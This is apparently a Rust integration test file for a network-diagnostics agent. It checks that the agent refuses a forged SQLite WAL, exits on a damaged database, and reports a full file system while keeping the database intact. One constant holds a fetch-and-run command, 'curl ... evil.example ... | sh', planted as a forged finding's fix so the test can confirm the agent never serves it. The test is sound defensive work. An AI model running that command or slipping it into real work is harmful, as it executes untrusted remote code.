//! 6. The history database another user prepared, that is damaged, or that fills up.
//!
//! Against the real agent process: a WAL another user forged is refused at start (exit 3,
//! the file and the fix named, the forged finding never served), a damaged database too,
//! and a full file system is said once, shown by `/readyz` and the metrics, and leaves the
//! database intact once space returns.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use anyhow::{bail, ensure, Context, Result};
use netdoctor_lab::agent::{self, tail, Agent};
use netdoctor_lab::{lab_guard, netdoctor, Netns, PairTopology};

use crate::agent_lifecycle::helpers::{now_ms, open_store};

const NOBODY: u32 = 65534;
const FORGED_FIX: &str = "curl http://evil.example/x | sh";
/// How long a refused agent may take to exit (it refuses before loading anything).
const REFUSED_WITHIN: Duration = Duration::from_secs(30);

fn with_suffix(path: &Path, suffix: &str) -> PathBuf {
    let mut p = path.as_os_str().to_owned();
    p.push(suffix);
    PathBuf::from(p)
}

/// A directory of root's, mode 0700 (the agent refuses one others can write).
fn private_dir() -> Result<tempfile::TempDir> {
    let dir = tempfile::Builder::new().prefix("ndlab-db-").tempdir()?;
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o700))?;
    Ok(dir)
}

/// Makes `db` an agent's database (closed), and next to it a real WAL, written through
/// SQLite on a copy, that holds the finding `rt.injected` with a fix that runs a script.
fn plant_forged_wal(db: &Path) -> Result<()> {
    drop(open_store(db)?);
    let work = private_dir()?;
    let copy = work.path().join("s.db");
    std::fs::copy(db, &copy)?;
    let forger = rusqlite::Connection::open(&copy)?;
    forger.execute(
        "INSERT INTO findings (id, interface, subject, severity, summary, evidence, fix, \
         reference, opened_ms, last_seen_ms, evaluations) \
         VALUES ('rt.injected', 'eth0', '', 'critical', 'forged', '{}', ?1, NULL, ?2, ?2, 1)",
        rusqlite::params![FORGED_FIX, now_ms()],
    )?;
    // Copied while the forger is still open: nothing is checkpointed yet.
    std::fs::copy(with_suffix(&copy, "-wal"), with_suffix(db, "-wal"))?;
    drop(forger);
    Ok(())
}

/// Waits for the agent to exit; fails at once if it serves the forged finding meanwhile.
fn wait_refused(agent: &mut Agent) -> Result<i32> {
    let deadline = Instant::now() + REFUSED_WITHIN;
    loop {
        if let Some(status) = agent.process_mut().try_status()? {
            return status.code().context("killed by a signal");
        }
        if let Ok(r) = agent.get("/api/v1/findings") {
            if r.text.contains("rt.injected") {
                bail!("the agent serves the forged finding: {}", r.describe());
            }
        }
        if Instant::now() >= deadline {
            bail!(
                "the agent still runs after {REFUSED_WITHIN:?}; stderr:\n{}",
                tail(&agent.stderr(), 3000)
            );
        }
        std::thread::sleep(Duration::from_millis(200));
    }
}

#[test]
fn agent_refuses_a_forged_wal_with_exit_3_and_starts_once_fixed() -> Result<()> {
    lab_guard!();
    let ns = Netns::new()?;
    // The user owns the database's directory and wrote the WAL; the database is root's.
    let dir = private_dir()?;
    let db = dir.path().join("s.db");
    plant_forged_wal(&db)?;
    let wal = with_suffix(&db, "-wal");
    let (db_before, wal_before) = (std::fs::read(&db)?, std::fs::read(&wal)?);
    std::os::unix::fs::chown(&wal, Some(NOBODY), Some(NOBODY))?;
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755))?;
    std::os::unix::fs::chown(dir.path(), Some(NOBODY), Some(NOBODY))?;

    let db_arg = db.to_string_lossy().into_owned();
    let mut agent = Agent::spawn(&ns, &["--no-probe", "--database", &db_arg], None)?;
    let code = wait_refused(&mut agent)?;
    let stderr = agent.stderr();
    ensure!(code == 3, "exit {code}, not 3; stderr:\n{stderr}");
    for needle in [
        format!("{} belongs to uid 65534", wal.display()),
        "remove it".to_owned(),
        format!(
            "the directory {} belongs to uid 65534",
            dir.path().display()
        ),
        format!("chown root {}", dir.path().display()),
    ] {
        ensure!(
            stderr.contains(&needle),
            "stderr lacks {needle:?}:\n{stderr}"
        );
    }
    ensure!(
        std::fs::read(&db)? == db_before,
        "the database changed: replayed?"
    );
    ensure!(std::fs::read(&wal)? == wal_before, "the WAL changed");
    drop(agent);

    // The twin: the fix the message names, and the agent starts without the forgery.
    std::fs::remove_file(&wal)?;
    std::os::unix::fs::chown(dir.path(), Some(0), Some(0))?;
    let agent = Agent::start(&ns, &["--no-probe", "--database", &db_arg])?;
    let all = agent.get_json("/api/v1/findings?state=all")?;
    ensure!(
        !all.to_string().contains("rt.injected"),
        "forged finding served: {all}"
    );
    Ok(())
}

#[test]
fn agent_exits_3_on_a_damaged_database() -> Result<()> {
    lab_guard!(netns);
    let ns = Netns::new()?;
    let dir = private_dir()?;
    let db = dir.path().join("netdoctor.db");
    drop(open_store(&db)?);
    // Page 2 (the findings table's root) becomes garbage; page 1, the header, stays valid.
    let mut bytes = std::fs::read(&db)?;
    bytes[4096..4096 + 64].fill(0xFF);
    std::fs::write(&db, &bytes)?;

    let db_arg = db.to_string_lossy().into_owned();
    let args = [
        "agent",
        "--no-probe",
        "--database",
        &db_arg,
        "--listen",
        "127.0.0.1:9469",
    ];
    let out = netdoctor::run(Some(&ns), &args, REFUSED_WITHIN)
        .context("a damaged database must make the agent exit at once")?;
    let stderr = String::from_utf8_lossy(&out.stderr);
    ensure!(
        out.status.code() == Some(3),
        "expected exit 3, got {}; stderr:\n{stderr}",
        out.status
    );
    ensure!(
        stderr.contains(&format!("{} is damaged", db.display()))
            && stderr.contains("quick_check")
            && stderr.contains("move it away"),
        "{stderr}"
    );
    ensure!(std::fs::read(&db)? == bytes, "the damaged file was changed");
    Ok(())
}

/// A small tmpfs on a fresh directory; unmounted (lazily if busy) when dropped.
struct Tmpfs {
    dir: tempfile::TempDir,
}

impl Tmpfs {
    fn mount(size: &str) -> Result<Tmpfs> {
        let dir = private_dir()?;
        let data = format!("size={size},mode=0700");
        nix::mount::mount(
            Some("tmpfs"),
            dir.path(),
            Some("tmpfs"),
            nix::mount::MsFlags::empty(),
            Some(data.as_str()),
        )
        .with_context(|| format!("mount -t tmpfs -o {data} {}", dir.path().display()))?;
        Ok(Tmpfs { dir })
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }
}

impl Drop for Tmpfs {
    fn drop(&mut self) {
        let _ = nix::mount::umount2(self.dir.path(), nix::mount::MntFlags::MNT_DETACH);
    }
}

/// Writes `path` until the file system is full.
fn fill(path: &Path) -> Result<u64> {
    use std::io::Write;
    let mut f = std::fs::File::create(path)?;
    let chunk = vec![0x5A_u8; 16 * 1024];
    let mut written = 0;
    loop {
        match f.write(&chunk) {
            Ok(0) => return Ok(written),
            Ok(n) => written += n as u64,
            Err(e) if e.raw_os_error() == Some(libc::ENOSPC) => return Ok(written),
            Err(e) => return Err(e.into()),
        }
    }
}

/// Lines of the agent's stderr after byte `from` that speak of the history database.
fn store_lines(agent: &Agent, from: usize) -> Vec<String> {
    let stderr = agent.stderr();
    stderr
        .get(from..)
        .unwrap_or_default()
        .lines()
        .filter(|l| l.contains("history database") || l.contains("evaluation failed"))
        .map(str::to_owned)
        .collect()
}

fn store_metrics(agent: &Agent) -> Result<(f64, f64)> {
    let samples = agent::parse_metrics(&agent.metrics()?)?;
    let one = |name: &str| -> Result<f64> {
        match agent::find_metric(&samples, name, &[]).as_slice() {
            [m] => Ok(m.value),
            other => bail!("{name}: {other:?}"),
        }
    };
    Ok((
        one("netdoctor_store_healthy")?,
        one("netdoctor_store_errors_total")?,
    ))
}

#[test]
fn a_full_file_system_is_said_once_shown_by_readyz_and_leaves_the_database_intact() -> Result<()> {
    lab_guard!();
    let pair = PairTopology::new(1500)?;
    let fs = Tmpfs::mount("4M")?;
    let db = fs.path().join("netdoctor.db");
    let db_arg = db.to_string_lossy().into_owned();
    let mut agent = Agent::start(&pair.a, &["--no-probe", "--database", &db_arg])?;
    let samples = |agent: &Agent| -> Result<u64> {
        let page = agent.get_json("/api/v1/samples?limit=1")?;
        page["total"].as_u64().context("samples total")
    };
    agent.poll(
        "/api/v1/samples?limit=1",
        Duration::from_secs(20),
        "a sample",
        |r| (r.json["total"].as_u64() > Some(0)).then_some(()),
    )?;

    let filler = fs.path().join("filler");
    let mark = agent.stderr().len();
    ensure!(fill(&filler)? > 0, "the tmpfs was full already");
    let degraded = agent.poll(
        "/readyz",
        Duration::from_secs(20),
        "/readyz 503 degraded",
        |r| (r.status == 503 && r.json["status"] == "degraded").then(|| r.json.clone()),
    )?;
    ensure!(
        degraded["store"]["status"] == "failing"
            && degraded["store"]["error"]
                .as_str()
                .is_some_and(|e| e.contains("full")),
        "{degraded}"
    );
    // Ten evaluations on a full file system.
    std::thread::sleep(Duration::from_secs(10));
    let (healthy, errors) = store_metrics(&agent)?;
    ensure!(
        healthy == 0.0 && errors >= 10.0,
        "healthy {healthy}, errors {errors}"
    );
    let during = store_lines(&agent, mark);
    ensure!(
        during.len() == 1 && during[0].contains("failed"),
        "one line for the failure expected, got {}:\n{}",
        during.len(),
        during.join("\n")
    );
    let kept = samples(&agent)?;

    std::fs::remove_file(&filler)?;
    agent.poll(
        "/readyz",
        Duration::from_secs(20),
        "/readyz 200 again",
        |r| (r.status == 200 && r.json["store"]["status"] == "ok").then_some(()),
    )?;
    ensure!(
        store_metrics(&agent)?.0 == 1.0,
        "netdoctor_store_healthy stays 0"
    );
    let lines = store_lines(&agent, mark);
    ensure!(
        lines.len() == 2 && lines[1].contains("work again"),
        "one line for the recovery expected:\n{}",
        lines.join("\n")
    );
    agent.poll(
        "/api/v1/samples?limit=1",
        Duration::from_secs(10),
        "new samples",
        |r| (r.json["total"].as_u64() > Some(kept)).then_some(()),
    )?;

    let status = agent.terminate(Duration::from_secs(10))?;
    ensure!(status.success(), "SIGTERM: {status}");
    let store = open_store(&db)?;
    ensure!(
        store.integrity_check()? == "ok",
        "integrity_check after the full disk"
    );
    Ok(())
}
